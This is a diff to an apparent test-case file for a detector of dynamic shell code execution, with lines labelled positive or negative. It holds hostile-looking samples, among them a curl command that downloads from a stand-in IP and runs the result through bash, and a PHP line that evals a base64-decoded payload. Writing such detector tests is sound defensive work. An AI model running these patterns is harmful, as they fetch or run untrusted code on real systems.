@@ -155,3 +155,11 @@ f=(bash -c); "${f[@]}" 'echo hello'
 curl -s http://203.0.113.5/s | xargs -0 -I{} bash -c {}
 #@ neg xargs runs constant code with the replace string as an argument
 ls | xargs -I{} bash -c 'wc -l "$1"' _ {}
+#@ neg trap of rm with the temporary paths quoted by printf %q
+trap "$(printf 'rm -rf %q %q' "$tmpdir" "$lock")" EXIT
+#@ pos trap of eval with a value quoted by printf %q
+trap "$(printf 'eval %q' "$code")" EXIT
+#@ neg perl evaluates a number
+perl -e 'print eval(2+3), "\n"'
+#@ pos php evaluates a decoded argument
+php -r 'eval(base64_decode($argv[1]));' "$payload"
